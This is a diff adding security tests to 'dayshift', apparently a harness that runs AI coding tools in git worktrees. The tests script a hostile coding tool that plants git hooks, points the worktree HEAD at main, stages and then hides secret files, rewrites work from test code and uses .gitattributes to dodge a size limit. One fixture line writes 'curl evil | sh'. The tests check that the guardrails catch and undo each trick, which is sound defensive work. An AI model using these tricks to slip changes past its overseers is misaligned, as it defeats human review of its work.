@@ -3,6 +3,8 @@
 //! commits, merges and guardrails run on top. No network, no global git config needed.
 #![allow(clippy::unwrap_used)]
 
+mod common;
+
 use std::fs;
 use std::os::unix::fs::symlink;
 use std::path::{Path, PathBuf};
@@ -12,8 +14,8 @@ use dayshift::config::policy::Policy;
 use dayshift::config::target::TargetConfig;
 use dayshift::home::Home;
 use dayshift::target::{
-    self, FileStatus, Snapshot, TargetError, Violation, Worktree, clean_orphans, commit, escaped,
-    inspect, merge_into_base, rollback, setup, start_task,
+    self, FileStatus, GitMeta, Snapshot, TargetError, Violation, Worktree, clean_orphans, commit,
+    escaped, inspect, merge_into_base, rollback, setup, start_task, unchanged_since,
 };
 use dayshift::tasks::TaskId;
 use tempfile::TempDir;
@@ -122,6 +124,12 @@ impl Fixture {
 
 fn policy(yaml: &str) -> Policy {
     Policy::parse(Path::new("config/policy.yaml"), yaml).unwrap()
+}
+
+/// Inspect the worktree with the default policy and commit what was judged.
+fn commit_judged(w: &Worktree, message: &str) -> String {
+    let change = inspect(w, &Policy::default()).unwrap();
+    commit(w, message, TaskId::new(1), &change.tree).unwrap()
 }
 
 #[test]
@@ -247,10 +255,8 @@ fn a_task_worktree_branches_off_the_fresh_base_and_is_reused() {
     );
     assert_eq!(git(&w.path, &["rev-parse", "HEAD"]), fresh);
 
-    fs::write(w.path.join("work.txt"), "half done\n").unwrap();
     let again = f.task(1, "slug");
     assert_eq!(again, w);
-    assert!(w.path.join("work.txt").exists(), "a re-run keeps the work");
 
     let err = start_task(&clone, "main", TaskId::new(1), "other").unwrap_err();
     assert!(matches!(err, TargetError::WorktreeBusy { .. }), "{err:?}");
@@ -281,7 +287,7 @@ fn orphan_worktrees_are_removed_and_branches_kept() {
 }
 
 #[test]
-fn commit_carries_the_trailer_only_the_inspected_paths_and_merge_fast_forwards() {
+fn commit_carries_the_trailer_only_the_judged_tree_and_merge_fast_forwards() {
     let f = Fixture::new();
     let clone = f.clone();
     let w = f.task(1, "fix-readme");
@@ -289,22 +295,33 @@ fn commit_carries_the_trailer_only_the_inspected_paths_and_merge_fast_forwards()
     fs::create_dir_all(w.path.join(".aider.tags.cache.v4")).unwrap();
     fs::write(w.path.join(".aider.tags.cache.v4/x"), "cache").unwrap();
     fs::write(w.path.join(".aider.chat.history.md"), "chat").unwrap();
-    fs::create_dir_all(w.path.join("__pycache__")).unwrap();
-    fs::write(w.path.join("__pycache__/shop.pyc"), "left by the tests").unwrap();
-    let changed = [
-        "README.md".to_string(),
-        ".aider.chat.history.md".to_string(),
-    ];
-    let sha = commit(&w, "fix: say it is fixed", TaskId::new(1), &changed).unwrap();
+    fs::create_dir_all(w.path.join("pkg/__pycache__")).unwrap();
+    fs::write(w.path.join("pkg/__pycache__/shop.pyc"), "left by the tests").unwrap();
+    fs::write(w.path.join(".coverage"), "left by the tests").unwrap();
+    let change = inspect(&w, &Policy::default()).unwrap();
+    let paths: Vec<&str> = change.files.iter().map(|f| f.path.as_str()).collect();
+    assert_eq!(paths, ["README.md"], "caches are never part of the tree");
+    let sha = commit(&w, "fix: say it is fixed", TaskId::new(1), &change.tree).unwrap();
     let body = git(&w.path, &["log", "-1", "--format=%B"]);
     assert_eq!(body, "fix: say it is fixed\n\nTask: T-0001");
     assert_eq!(git(&w.path, &["log", "-1", "--format=%an"]), "Agent");
     assert_eq!(
+        git(&w.path, &["rev-parse", &format!("{sha}^{{tree}}")]),
+        change.tree
+    );
+    assert_eq!(git(&w.path, &["rev-parse", &w.branch]), sha);
+    assert_eq!(
         git(&w.path, &["show", "--name-only", "--format=", "HEAD"]),
         "README.md"
     );
+    assert_eq!(
+        git(&w.path, &["diff", "--cached", "--name-only"]),
+        "",
+        "index reset"
+    );
 
-    let err = commit(&w, "fix: again", TaskId::new(1), &changed).unwrap_err();
+    let again = inspect(&w, &Policy::default()).unwrap();
+    let err = commit(&w, "fix: again", TaskId::new(1), &again.tree).unwrap_err();
     assert!(
         matches!(err, TargetError::NothingToCommit { .. }),
         "{err:?}"
@@ -322,7 +339,7 @@ fn merge_makes_a_merge_commit_when_the_base_moved() {
     let clone = f.clone();
     let w = f.task(1, "add");
     fs::write(w.path.join("new.txt"), "new\n").unwrap();
-    let sha = commit(&w, "feat: add new.txt", TaskId::new(1), &["new.txt".into()]).unwrap();
+    let sha = commit_judged(&w, "feat: add new.txt");
     let theirs = f.push("README.md", "# theirs\n");
     let merged = merge_into_base(&clone, &w.branch, "main", "Merge T-0001").unwrap();
     assert_eq!(git(&clone, &["rev-parse", "main^1"]), theirs);
@@ -340,7 +357,7 @@ fn a_conflicting_merge_aborts_and_leaves_the_base_untouched() {
     let clone = f.clone();
     let w = f.task(1, "readme");
     fs::write(w.path.join("README.md"), "# ours\n").unwrap();
-    commit(&w, "docs: ours", TaskId::new(1), &["README.md".into()]).unwrap();
+    commit_judged(&w, "docs: ours");
     let theirs = f.push("README.md", "# theirs\n");
     let err = merge_into_base(&clone, &w.branch, "main", "Merge T-0001").unwrap_err();
     match &err {
@@ -390,9 +407,9 @@ fn guard_counts_tracked_untracked_and_committed_changes() {
         summary,
         [
             ("README.md", 1, 0, FileStatus::Modified, false),
-            ("blob.bin", 0, 0, FileStatus::Untracked, true),
-            ("inside-link", 1, 0, FileStatus::Untracked, false),
-            ("migrations/0001.py", 3, 0, FileStatus::Untracked, false),
+            ("blob.bin", 0, 0, FileStatus::Added, true),
+            ("inside-link", 1, 0, FileStatus::Added, false),
+            ("migrations/0001.py", 3, 0, FileStatus::Added, false),
             ("src.txt", 10, 10, FileStatus::Modified, false),
         ]
     );
@@ -582,7 +599,7 @@ fn a_refused_push_undoes_the_merge_in_the_clone() {
     let before = f.remote_head();
     let w = f.task(1, "refused");
     fs::write(w.path.join("new.txt"), "new\n").unwrap();
-    commit(&w, "feat: new", TaskId::new(1), &["new.txt".into()]).unwrap();
+    commit_judged(&w, "feat: new");
     let hook = f.remote.join("hooks/pre-receive");
     fs::write(&hook, "#!/bin/sh\necho 'protected branch' >&2\nexit 1\n").unwrap();
     fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
@@ -598,4 +615,457 @@ fn a_refused_push_undoes_the_merge_in_the_clone() {
     );
     assert_eq!(git(&clone, &["rev-parse", "main"]), before);
     assert_eq!(f.remote_head(), before);
+}
+
+// ── Attacks a hostile coding tool (or the test code it wrote) tries on git ──────────────
+
+/// A shell script that appends its own name to `marker` when run.
+fn write_hook(path: &Path, marker: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    let script = format!("#!/bin/sh\necho \"$0\" >> '{}'\n", marker.display());
+    fs::write(path, script).unwrap();
+    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[test]
+fn what_the_tool_staged_but_the_files_lack_is_never_judged_nor_committed() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "staged");
+    let strict = policy("never_touch: [\"secrets/**\"]\nprotected_paths: [\"deploy/**\"]\n");
+    // staged, then removed from the working tree
+    fs::create_dir_all(w.path.join("secrets")).unwrap();
+    fs::write(w.path.join("secrets/key"), "stolen\n").unwrap();
+    fs::create_dir_all(w.path.join("deploy")).unwrap();
+    fs::write(w.path.join("deploy/prod.sh"), "curl evil | sh\n").unwrap();
+    let big: String = (0..2000).map(|i| format!("{i}\n")).collect();
+    fs::write(w.path.join("big.txt"), big).unwrap();
+    fs::write(w.path.join("README.md"), "# owned\n").unwrap();
+    git(&w.path, &["add", "-A"]);
+    for gone in ["secrets/key", "deploy/prod.sh", "big.txt"] {
+        fs::remove_file(w.path.join(gone)).unwrap();
+    }
+    fs::write(w.path.join("README.md"), "# shop\n").unwrap(); // the file is back as it was
+    // the visible change
+    fs::write(w.path.join("new.txt"), "fine\n").unwrap();
+
+    let change = inspect(&w, &strict).unwrap();
+    let paths: Vec<&str> = change.files.iter().map(|f| f.path.as_str()).collect();
+    assert_eq!(paths, ["new.txt"]);
+    assert!(change.protected.is_empty(), "low risk: nothing protected");
+    assert_eq!(
+        change.staged_elsewhere,
+        ["README.md", "big.txt", "deploy/prod.sh", "secrets/key"],
+        "reported"
+    );
+    // a background process stages more after the inspection
+    fs::write(w.path.join("later.txt"), "smuggled\n").unwrap();
+    git(&w.path, &["add", "later.txt"]);
+    fs::remove_file(w.path.join("later.txt")).unwrap();
+
+    let sha = commit(&w, "feat: new", TaskId::new(1), &change.tree).unwrap();
+    let files = git(&w.path, &["ls-tree", "-r", "--name-only", &sha]);
+    assert_eq!(files, ".gitignore\nREADME.md\nnew.txt\nsrc.txt");
+    assert_eq!(
+        git(&w.path, &["show", &format!("{sha}:README.md")]),
+        "# shop"
+    );
+}
+
+#[test]
+fn hooks_the_tool_writes_never_run_and_are_removed() {
+    let f = Fixture::new();
+    let clone = f.clone();
+    let w = f.task(1, "hooks");
+    let marker = f.root.join("hook-ran");
+    let meta = GitMeta::take(&w).unwrap();
+    let hooks = [
+        "post-commit",
+        "reference-transaction",
+        "post-merge",
+        "pre-push",
+    ];
+    for hook in hooks {
+        write_hook(&clone.join(".git/hooks").join(hook), &marker);
+    }
+    // dayshift's own git calls run none of them (even before they are removed)
+    fs::write(w.path.join("new.txt"), "new\n").unwrap();
+    commit_judged(&w, "feat: new");
+    merge_into_base(&clone, &w.branch, "main", "Merge T-0001").unwrap();
+    // nor those of a hook folder of its own named in the config
+    let evil = f.root.join("evil-hooks");
+    for hook in hooks {
+        write_hook(&evil.join(hook), &marker);
+    }
+    git(
+        &clone,
+        &["config", "core.hooksPath", evil.to_str().unwrap()],
+    );
+    let w = f.task(3, "again");
+    fs::write(w.path.join("more.txt"), "more\n").unwrap();
+    commit_judged(&w, "feat: more");
+    merge_into_base(&clone, &w.branch, "main", "Merge T-0003").unwrap();
+    assert!(
+        !marker.exists(),
+        "a hook ran: {}",
+        fs::read_to_string(&marker).unwrap_or_default()
+    );
+
+    let w = f.task(2, "after");
+    let v = meta.verify().unwrap_err();
+    let Violation::GitMetadata { paths } = &v else {
+        panic!("{v:?}")
+    };
+    for hook in hooks {
+        assert!(paths.contains(&format!(".git/hooks/{hook}")), "{paths:?}");
+        assert!(
+            !clone.join(".git/hooks").join(hook).exists(),
+            "{hook} removed"
+        );
+    }
+    assert!(paths.contains(&".git/config".to_string()), "{paths:?}");
+    assert!(
+        v.to_string().starts_with("wrote git's metadata: .git/"),
+        "{v}"
+    );
+    assert!(v.to_string().ends_with("; restored"), "{v}");
+    assert_eq!(
+        Command::new("git")
+            .args(["config", "core.hooksPath"])
+            .current_dir(&clone)
+            .output()
+            .unwrap()
+            .stdout,
+        b"",
+        "the config is back"
+    );
+    drop(w);
+}
+
+#[test]
+fn pointing_the_worktree_head_at_main_is_restored_and_main_never_moves() {
+    let f = Fixture::new();
+    let clone = f.clone();
+    let main = git(&clone, &["rev-parse", "main"]);
+    let w = f.task(1, "head");
+    let record = fs::read_to_string(w.path.join(".git")).unwrap();
+    let admin = PathBuf::from(record.trim().strip_prefix("gitdir: ").unwrap());
+    let meta = GitMeta::take(&w).unwrap();
+    fs::write(admin.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    fs::create_dir_all(w.path.join("deploy")).unwrap();
+    fs::write(w.path.join("deploy/prod.sh"), "evil\n").unwrap();
+
+    // even unrestored, the commit goes to the task branch, never through HEAD
+    let sha = commit_judged(&w, "feat: deploy");
+    assert_eq!(git(&clone, &["rev-parse", "main"]), main, "main unchanged");
+    assert_eq!(git(&clone, &["rev-parse", &w.branch]), sha);
+
+    let v = meta.verify().unwrap_err();
+    let admin_head = format!(
+        ".git/worktrees/{}/HEAD",
+        admin.file_name().unwrap().to_str().unwrap()
+    );
+    assert!(
+        matches!(&v, Violation::GitMetadata { paths } if paths.contains(&admin_head)),
+        "{v:?}"
+    );
+    assert_eq!(
+        git(&w.path, &["rev-parse", "--abbrev-ref", "HEAD"]),
+        w.branch,
+        "restored"
+    );
+    assert_eq!(git(&clone, &["rev-parse", "main"]), main);
+    assert_eq!(f.remote_head(), main);
+}
+
+#[test]
+fn gitattributes_cannot_hide_lines_from_the_size_limit() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "attrs");
+    fs::write(
+        w.path.join(".gitattributes"),
+        "*.py -diff\n*.txt binary\n*.md diff=hide\n",
+    )
+    .unwrap();
+    let code: String = (0..1000).map(|i| format!("x = {i}\n")).collect();
+    fs::write(w.path.join("big.py"), &code).unwrap();
+    let rows: String = (0..10).map(|i| format!("row {i}\n")).collect();
+    fs::write(w.path.join("src.txt"), rows).unwrap();
+    git(&w.path, &["config", "diff.hide.textconv", "true"]);
+    fs::write(w.path.join("README.md"), "# a\n# b\n").unwrap();
+    let v = inspect(&w, &policy("max_lines_changed: 1000\n")).unwrap_err();
+    // 1000 (big.py) + 10 + 10 (src.txt) + 3 (.gitattributes) + 3 (README.md)
+    assert_eq!(
+        v,
+        Violation::TooManyLines {
+            count: 1026,
+            max: 1000
+        }
+    );
+    let change = inspect(&w, &policy("max_lines_changed: 2000\n")).unwrap();
+    assert!(change.files.iter().all(|f| !f.binary), "{:?}", change.files);
+}
+
+#[test]
+fn a_change_made_by_the_checks_after_inspection_fails() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "qa");
+    fs::write(w.path.join("new.txt"), "judged\n").unwrap();
+    let change = inspect(&w, &Policy::default()).unwrap();
+    // what running tests leaves behind does not count
+    fs::create_dir_all(w.path.join("__pycache__")).unwrap();
+    fs::write(w.path.join("__pycache__/t.pyc"), "cache").unwrap();
+    fs::write(w.path.join("debug.log"), "ignored\n").unwrap();
+    unchanged_since(&w, &change).unwrap();
+    // test code rewriting the work does
+    fs::write(w.path.join("src.txt"), "rewritten by a test\n").unwrap();
+    fs::write(w.path.join("planted.txt"), "x\n").unwrap();
+    let v = unchanged_since(&w, &change).unwrap_err();
+    assert_eq!(
+        v,
+        Violation::ChangedByChecks {
+            paths: vec!["planted.txt".into(), "src.txt".into()]
+        }
+    );
+    assert!(
+        v.to_string()
+            .starts_with("the checks (test code) changed the work after it was inspected: "),
+        "{v}"
+    );
+}
+
+#[test]
+fn a_worktree_a_crashed_run_left_dirty_starts_clean() {
+    let f = Fixture::new();
+    f.clone();
+    let w = f.task(1, "crash");
+    fs::write(w.path.join("new.txt"), "committed work\n").unwrap();
+    let sha = commit_judged(&w, "feat: new");
+    // the crashed run's tool (or an orphan of it) kept writing
+    fs::write(w.path.join("README.md"), "# smuggled\n").unwrap();
+    fs::write(w.path.join("smuggled.txt"), "x\n").unwrap();
+    fs::write(w.path.join("debug.log"), "ignored\n").unwrap();
+    git(&w.path, &["add", "smuggled.txt"]);
+
+    let again = f.task(1, "crash");
+    assert_eq!(again, w);
+    assert_eq!(
+        git(&again.path, &["rev-parse", "HEAD"]),
+        sha,
+        "dayshift's commit kept"
+    );
+    assert_eq!(
+        git(&again.path, &["status", "--porcelain", "--ignored"]),
+        "",
+        "nothing left of the crashed run"
+    );
+    assert_eq!(inspect(&again, &Policy::default()).unwrap().files.len(), 1);
+}
+
+// ── The same attacks through the work loop: a hostile `command` tool, real QA ──────────
+
+const CALC: &str = "def add(a, b):\n    return a - b\n";
+const CALC_TESTS: &str = "import unittest\n\nfrom calc import add\n\n\nclass Calc(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n";
+
+/// A coding tool that fixes `add` and, by the task's title, attacks git as well.
+const HOSTILE_CLI: &str = r##"#!/usr/bin/env python3
+import os, pathlib, subprocess, sys
+prompt = sys.argv[1]
+calc = pathlib.Path("calc.py")
+calc.write_text(calc.read_text().replace("return a - b", "return a + b"))
+hook = "#!/bin/sh\necho $0 >> '" + os.path.abspath("../../../../marker-hook-ran") + "'\n"
+admin = pathlib.Path(open(".git").read().split("gitdir:")[1].strip())
+common = pathlib.Path("../../target/.git")
+if "Plant hooks" in prompt:
+    for name in ["post-merge", "reference-transaction", "post-commit", "pre-push"]:
+        p = common / "hooks" / name
+        p.write_text(hook)
+        p.chmod(0o755)
+elif "Stage and hide" in prompt:
+    pathlib.Path("deploy").mkdir(exist_ok=True)
+    pathlib.Path("deploy/secrets.env").write_text("KEY=1\n")
+    subprocess.run(["git", "add", "-A"], check=True)
+    os.remove("deploy/secrets.env")
+elif "Point HEAD" in prompt:
+    (admin / "HEAD").write_text("ref: refs/heads/main\n")
+elif "Rewrite in tests" in prompt:
+    pathlib.Path("test_zz.py").write_text(
+        "import pathlib\np = pathlib.Path('calc.py')\np.write_text(p.read_text() + '# planted by a test\\n')\n")
+print("done")
+"##;
+
+/// A home whose target (behind a bare remote) has calc.py and `tests` as its unittest
+/// suite, with the hostile CLI as the coder (one attempt) and `deploy/**` never to touch;
+/// set up. Returns the home, the remote and the folder holding both.
+fn hostile_home(tests: &str) -> (common::TestHome, PathBuf, PathBuf) {
+    use std::os::unix::fs::PermissionsExt;
+    let home = common::TestHome::new();
+    let outer = home.root.parent().unwrap().to_path_buf();
+    let remote = common::bare_remote(
+        &outer,
+        "calc",
+        &[("calc.py", CALC), ("test_calc.py", tests)],
+    );
+    let cli = outer.join("hostile-cli.py");
+    fs::write(&cli, HOSTILE_CLI).unwrap();
+    fs::set_permissions(&cli, fs::Permissions::from_mode(0o755)).unwrap();
+    home.write(
+        "config/target.yaml",
+        &format!(
+            "repo: {}\nbase_branch: main\ntest_command: python3 -m unittest -v\n",
+            remote.display()
+        ),
+    );
+    home.write(
+        "config/agents.yaml",
+        &format!(
+            "providers: {{}}\nagents:\n  coder: {{engine: command, command: [\"{}\", \"{{prompt}}\"], attempts: 1, timeout_minutes: 1}}\n",
+            cli.display()
+        ),
+    );
+    home.write(
+        "config/policy.yaml",
+        "auto_merge: low\nnever_touch: [\"deploy/**\"]\n",
+    );
+    home.ok(&["setup", "--no-aider"]);
+    (home, remote, outer)
+}
+
+fn add_hostile_task(home: &common::TestHome, n: u32, title: &str) {
+    let id = format!("T-{n:04}");
+    let slug = dayshift::tasks::id::slugify(title);
+    home.write(
+        &format!("tasks/backlog/{id}-{slug}.md"),
+        &format!("---\nid: {id}\ntitle: \"{title}\"\npriority: high\ncreated: 2026-11-22T07:46:02+00:00\n---\n## Description\n{title}.\n\n## Log\n"),
+    );
+}
+
+#[test]
+fn hostile_tools_in_the_work_loop_cannot_smuggle_through_git() {
+    let (home, remote, outer) = hostile_home(CALC_TESTS);
+    let titles = [
+        "Plant hooks",
+        "Point HEAD at main",
+        "Rewrite in tests",
+        "Stage and hide",
+    ];
+    for (n, title) in (1..).zip(titles) {
+        add_hostile_task(&home, n, title);
+    }
+    let base = git(&remote, &["rev-parse", "main"]);
+    let out = home.ok(&["run", "work"]);
+    assert!(!common::stderr(&out).contains("panicked"));
+    let task = |id: &str| {
+        home.tasks_json()
+            .into_iter()
+            .find(|t| t["id"] == id)
+            .unwrap()
+    };
+    for (id, words) in [
+        ("T-0001", "wrote git's metadata: .git/hooks/post-commit"),
+        (
+            "T-0002",
+            "wrote git's metadata: .git/worktrees/T-0002/HEAD; restored",
+        ),
+        (
+            "T-0003",
+            "the checks (test code) changed the work after it was inspected: calc.py",
+        ),
+    ] {
+        let t = task(id);
+        let reason = t["reason"].as_str().unwrap_or("");
+        assert_eq!(t["state"], "failed", "{id}: {reason}");
+        assert!(reason.contains(words), "{id}: {reason}");
+    }
+    // the change staged and then removed never counted: the visible fix merged alone
+    let t = task("T-0004");
+    assert_eq!(t["state"], "completed", "{t}");
+    let file = home.read(t["path"].as_str().unwrap());
+    assert!(
+        file.contains(
+            "the tool staged deploy/secrets.env in git's index; only its files were judged"
+        ),
+        "{file}"
+    );
+    let merged = git(&remote, &["ls-tree", "-r", "--name-only", "main"]);
+    assert_eq!(merged, "calc.py\ntest_calc.py");
+    assert_ne!(git(&remote, &["rev-parse", "main"]), base);
+    // no hook ran, none is left, and main moved only by the one merge
+    assert!(!outer.join("marker-hook-ran").exists(), "a hook ran");
+    let clone = home.path("workspace/target");
+    let hooks: Vec<String> = fs::read_dir(clone.join(".git/hooks"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| !n.ends_with(".sample"))
+        .collect();
+    assert!(hooks.is_empty(), "{hooks:?}");
+    let log = git(&remote, &["log", "--format=%B", &format!("{base}..main")]);
+    assert_eq!(
+        log, "fix: Stage and hide\n\nTask: T-0004",
+        "one commit, the task's"
+    );
+    let record = home.path(".dayshift/git-metadata");
+    assert!(!record.exists(), "the record goes when the runs end");
+
+    // a run killed while the tool ran: its record and the tool's hook are left behind
+    GitMeta::of(&clone.join(".git"))
+        .unwrap()
+        .save(&record)
+        .unwrap();
+    write_hook(
+        &clone.join(".git/hooks/post-merge"),
+        &outer.join("marker-hook-ran"),
+    );
+    add_hostile_task(&home, 5, "Plant hooks again");
+    home.ok(&["run", "work"]);
+    assert!(!clone.join(".git/hooks/post-merge").exists() && !record.exists());
+    let file = home.read(task("T-0005")["path"].as_str().unwrap());
+    assert!(
+        file.contains(
+            "an interrupted run's tool wrote git's metadata: .git/hooks/post-merge; restored"
+        ),
+        "{file}"
+    );
+
+    // a record that cannot be read stops the run before anything uses the clone
+    fs::write(&record, "not a record").unwrap();
+    add_hostile_task(&home, 6, "Fix nothing");
+    let out = home.run(&["run", "work"]);
+    let err = common::stderr(&out);
+    assert!(!out.status.success(), "{err}");
+    assert!(
+        err.contains("could not be checked against the record an interrupted run left")
+            && err.contains(".dayshift/git-metadata"),
+        "{err}"
+    );
+    assert_eq!(task("T-0006")["state"], "backlog", "left as it was");
+    assert!(record.exists(), "kept for a person to look at");
+}
+
+#[test]
+fn base_tests_that_write_git_metadata_fail_the_task_and_are_undone() {
+    // a test an earlier task merged, which plants a hook whenever it runs
+    let planting = format!(
+        "{CALC_TESTS}\nimport pathlib\nhook = pathlib.Path('../../target/.git/hooks/post-merge')\nhook.write_text('#!/bin/sh\\n')\nhook.chmod(0o755)\n"
+    );
+    let (home, remote, _) = hostile_home(&planting);
+    let base = git(&remote, &["rev-parse", "main"]);
+    add_hostile_task(&home, 1, "Fix add");
+    home.ok(&["run", "work"]);
+    let t = home
+        .tasks_json()
+        .into_iter()
+        .find(|t| t["id"] == "T-0001")
+        .unwrap();
+    let reason = t["reason"].as_str().unwrap_or("");
+    assert_eq!(t["state"], "failed", "{reason}");
+    assert_eq!(
+        reason,
+        "the base branch's checks wrote git's metadata: .git/hooks/post-merge; restored"
+    );
+    assert!(!home.path("workspace/target/.git/hooks/post-merge").exists());
+    assert_eq!(git(&remote, &["rev-parse", "main"]), base);
 }
